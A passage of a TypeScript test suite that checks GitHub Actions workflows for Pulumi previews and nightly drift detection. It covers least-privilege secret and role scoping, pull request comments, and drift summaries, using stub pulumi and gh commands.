        PULUMI_ACCESS_TOKEN: "${{ secrets.PULUMI_READ_ONLY_ACCESS_TOKEN }}",
        PULUMI_CONFIG_PASSPHRASE: `\${{ secrets.PULUMI_CONFIG_PASSPHRASE_${upper} }}`,
      });
      for (const value of Object.values(secretsPassed(caller))) expect(DEPLOY_SECRET_REFERENCES).not.toContain(value);

      const context = calledFrom("preview.yml", stack);
      expect(await interpolate(readOnly.env?.STACK ?? "", context)).toBe(stack);
      expect(await conditionHolds(previewStep.if ?? "true", context)).toBe(true);
      expect(await conditionHolds(driftStep.if ?? "true", context)).toBe(false);
      expect(previewStep.run).toBe(
        'pulumi preview --stack "$STACK" --diff --non-interactive --color never --suppress-progress 2>&1 | tee "$RUNNER_TEMP/preview.txt"',
      );
      const role = step(readOnlySteps, (s) => s.uses?.startsWith("aws-actions/configure-aws-credentials@") === true, "assuming the role");
      expect(role.with?.["role-to-assume"]).toBe("${{ inputs.aws-role-arn }}");
      expect(readOnlySteps.indexOf(role)).toBeLessThan(readOnlySteps.indexOf(previewStep));
    },
  );

  it("never reaches for the deploy identities: no environment, no deploy role, no inherited secrets", () => {
    for (const file of ["preview.yml", "drift.yml", "read-only-stack.yml"]) {
      expect(workflowText(file), file).not.toMatch(/AWS_DEPLOY_ROLE_ARN|secrets: inherit|^\s*environment:/m);
    }
    expect(readOnly.environment).toBeUndefined();
    expect(readOnly.permissions).toEqual({ contents: "read", "id-token": "write" });
  });

  it("gives the secrets only to the two pulumi steps, none to npm ci, the build, the summaries or any action", () => {
    expect(readOnly.env).toEqual({ STACK: "${{ inputs.stack }}", PULUMI_BACKEND_URL: "${{ inputs.pulumi-backend-url }}" });
    expect(secretsByStep(readOnlySteps)).toEqual({
      "pulumi preview --diff": [...AUTH0, ...PULUMI],
      "pulumi preview --refresh --expect-no-changes": [...AUTH0, ...PULUMI],
    });
  });

  it("stays out of the deploy's pulumi-stack-<stack> group, so a queued preview never cancels a pending deployment", async () => {
    const group = await interpolate(readOnly.concurrency?.group ?? "", calledFrom("preview.yml", "prod"));
    expect(group).toBe("read-only-prod-refs/pull/7/merge");
    expect(group).not.toMatch(/^pulumi-stack-/);
  });

  it("puts the diff in the summary and, cut to fit, in the job's output for the comment", () => {
    const diffStep = step(readOnlySteps, (s) => s.id === "diff", "with id diff");
    const temp = mkdtempSync(path.join(scratch, "runner-temp-"));
    const summary = path.join(temp, "summary.md");
    const output = path.join(temp, "output");
    writeFileSync(summary, "");
    writeFileSync(output, "");
    const diff = "Previewing update (prod):\n  ~ auth0:index/guardian:Guardian: (update)\n      ~ otp: false => true\n";
    writeFileSync(path.join(temp, "preview.txt"), diff + "x".repeat(40_000));
    const result = runStep(diffStep.run ?? "", { RUNNER_TEMP: temp, STACK: "prod", GITHUB_STEP_SUMMARY: summary, GITHUB_OUTPUT: output });
    expect(result.status).toBe(0);
    expect(readFileSync(summary, "utf8")).toMatch(
      /^### pulumi preview \(stack prod\)\n\n```diff\nPreviewing update \(prod\):\n {2}~ auth0:index\/guardian:Guardian: \(update\)\n/,
    );
    const written = readFileSync(output, "utf8");
    const match = /^preview<<(preview-[0-9a-f]+)\n([\s\S]*)\n\1\n$/.exec(written);
    expect(match).not.toBeNull();
    expect(match?.[2]).toContain("      ~ otp: false => true");
    expect(match?.[2]).toMatch(/Cut at 30000 characters: the whole diff is in the run's summary\.$/);
    expect(match?.[2]?.length).toBeLessThan(31_000);
  });

  describe("the pull request comment", () => {
    const comment = job("preview.yml", "comment");
    const commentScript = comment.steps?.[0]?.run ?? "";

    it("is the only job whose token may write, and it runs no action, npm or pulumi", () => {
      expect(comment.permissions).toEqual({ "pull-requests": "write" });
      expect(comment.needs).toEqual(["dev", "prod"]);
      expect(comment.steps?.every((s) => s.uses === undefined)).toBe(true);
      for (const [id, other] of Object.entries(workflow("preview.yml").jobs)) {
        if (id !== "comment") expect(JSON.stringify(other.permissions ?? {}), id).not.toContain("pull-requests");
      }
    });

    it("edits the bot's last comment (or makes one) with both previews", () => {
      const temp = mkdtempSync(path.join(scratch, "comment-"));
      const result = runWithFakeGh(`${commentScript}\ncp "$RUNNER_TEMP/comment.md" "$RUNNER_TEMP/sent.md"`, {
        RUNNER_TEMP: temp,
        PR_NUMBER: "7",
        DEV_PREVIEW: "### pulumi preview (stack dev)\n\nno changes",
        PROD_PREVIEW: "",
      });
      expect(result.status).toBe(0);
      expect(result.calls).toEqual([`pr comment 7 --edit-last --create-if-none --body-file ${temp}/comment.md`]);
      expect(readFileSync(path.join(temp, "sent.md"), "utf8")).toBe(
        "### pulumi preview (stack dev)\n\nno changes\n\n### pulumi preview (stack prod)\n\nNo preview: see the run.\n\n",
      );
    });

    it("leaves a notice, not a failure, when the token may not comment", () => {
      const result = runWithFakeGh(commentScript, { RUNNER_TEMP: mkdtempSync(path.join(scratch, "comment-")), PR_NUMBER: "7" }, 1);
      expect(result.status).toBe(0);
      expect(result.stdout).toContain("::notice title=No pull request comment::");
    });
  });
});

describe("drift.yml", () => {
  const readOnlySteps = stepsOf("read-only-stack.yml", "preview");
  const summaryStep = step(readOnlySteps, (s) => /drift-summary/.test(s.run ?? ""), "running drift-summary");
  const driftStep = step(readOnlySteps, (s) => /^pulumi preview .*--refresh/.test(s.run ?? ""), "running pulumi preview --refresh");

  it("runs nightly and on demand", () => {
    const on = workflow("drift.yml").on;
    expect(Object.keys(on).sort()).toEqual(["schedule", "workflow_dispatch"]);
    expect(on.schedule).toEqual([{ cron: "17 5 * * *" }]);
    expect(on.workflow_dispatch).toMatchObject({ inputs: { stack: { type: "choice", options: ["both", "dev", "prod"] } } });
  });

  it.each([
    ["the nightly run", { github: { event_name: "schedule" }, inputs: {} }, ["deployed", "dev", "prod"]],
    ["a manual run for both", { github: { event_name: "workflow_dispatch" }, inputs: { stack: "both" } }, ["deployed", "dev", "prod"]],
    ["a manual run for dev", { github: { event_name: "workflow_dispatch" }, inputs: { stack: "dev" } }, ["deployed", "dev"]],
    ["a manual run for prod", { github: { event_name: "workflow_dispatch" }, inputs: { stack: "prod" } }, ["deployed", "prod"]],
  ])("%s checks %j", async (_what, context, expected) => {
    expect(await jobsThatRun("drift.yml", context)).toEqual(expected);
  });

  it.each(["dev", "prod"])(
    "checks %s with pulumi preview --refresh --expect-no-changes, read-only, on its deployed commit",
    async (stack) => {
      const caller = job("drift.yml", stack);
      const upper = stack.toUpperCase();
      expect(caller.uses).toBe("./.github/workflows/read-only-stack.yml");
      expect(caller.needs).toBe("deployed");
      expect(caller.with).toMatchObject({
        stack,
        refresh: true,
        ref: `\${{ needs.deployed.outputs.${stack} }}`,
        "aws-role-arn": `\${{ vars.AWS_READ_ONLY_ROLE_ARN_${upper} }}`,
      });
      expect(secretsPassed(caller)).toEqual(secretsPassed(job("preview.yml", stack)));
      const context = { github: { event_name: "workflow_call" }, inputs: caller.with ?? {}, steps: { drift: { outcome: "failure" } } };
      expect(await conditionHolds(driftStep.if ?? "true", context)).toBe(true);
      expect(await conditionHolds(notCancelled(summaryStep.if ?? "true"), context)).toBe(true);
      expect(driftStep.run).toBe(
        'pulumi preview --stack "$STACK" --refresh --expect-no-changes --non-interactive --json > "$RUNNER_TEMP/drift.json"',
      );
    },
  );

  it("finds each stack's deployed commit from its environment's latest deployment, falling back to the branch with a notice", () => {
    const find = stepsOf("drift.yml", "deployed")[0];
    expect(job("drift.yml", "deployed").permissions).toEqual({ deployments: "read" });
    const output = path.join(scratch, "deployed-output");
    writeFileSync(output, "");
    const result = runWithFakeGh(find?.run ?? "", { GITHUB_REPOSITORY: "acme/mfa", GITHUB_OUTPUT: output, GITHUB_REF_NAME: "main" });
    expect(result.status).toBe(0);
    expect(readFileSync(output, "utf8")).toBe("dev=0123456789abcdef0123456789abcdef01234567\nprod=\n");
    expect(result.stdout).toContain("::notice title=No production deployment found::stack prod is checked on main");
  });

  describe("fails on a planned change, its summary naming each resource and property (the real npm run drift-summary)", () => {
    /**
     * The two drift steps in order, as the runner runs them: pulumi (a stand-in that prints a recorded
     * preview's JSON and exits as the CLI does with --expect-no-changes: non-zero when it plans a change),
     * then the summary step, which runs after a failed pulumi step too.
     */
    function runDriftSteps(
      fixture: string,
      pulumiExit: number,
    ): { pulumi: number | null; args: string; status: number | null; summary: string } {
      const temp = mkdtempSync(path.join(scratch, "drift-"));
      const bin = mkdtempSync(path.join(scratch, "bin-"));
      writeFileSync(path.join(bin, "preview.json"), readFileSync(path.join(__dirname, "..", "tools", "fixtures", fixture)));
      writeFileSync(path.join(bin, "pulumi"), `#!/bin/sh\necho "$@" > "${bin}/args"\ncat "${bin}/preview.json"\nexit ${pulumiExit}\n`, {
        mode: 0o755,
      });
      const summary = path.join(temp, "summary.md");
      writeFileSync(summary, "");
      const env = { PATH: `${bin}:${process.env.PATH ?? "/usr/bin:/bin"}`, STACK: "prod", RUNNER_TEMP: temp, GITHUB_STEP_SUMMARY: summary };
      const pulumi = runStep(driftStep.run ?? "", env);
      const result = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", summaryStep.run ?? ""], {
        cwd: path.join(WORKFLOW_DIR, "..", ".."),
        env,
        encoding: "utf8",
      });
      return {
        pulumi: pulumi.status,
        args: readFileSync(path.join(bin, "args"), "utf8").trim(),
        status: result.status,
        summary: readFileSync(summary, "utf8"),
      };
    }

    it("exits 1 on drift, with the resources and properties in the run's summary", () => {
      expect(summaryStep.shell).toBe("bash");
      const { pulumi, args, status, summary } = runDriftSteps("preview-refresh-drift.json", 255);
      expect(args).toBe("preview --stack prod --refresh --expect-no-changes --non-interactive --json");
      expect(pulumi).toBe(255);
      expect(status).toBe(1);
      expect(summary).toMatch(/^### Drift in stack prod\n/);
      expect(summary).toContain(
        "| `prod-mfa` | `auth0:index/guardian:Guardian` | update: differs from the program | `otp` (differs), `phone.enabled` (differs) |",
      );
    });

    it("exits 0 when nothing drifted", () => {
      const { pulumi, status, summary } = runDriftSteps("preview-refresh-clean.json", 0);
      expect(pulumi).toBe(0);
      expect(status).toBe(0);
      expect(summary).toMatch(/^### No drift in stack prod\n/);
    });
  });
});
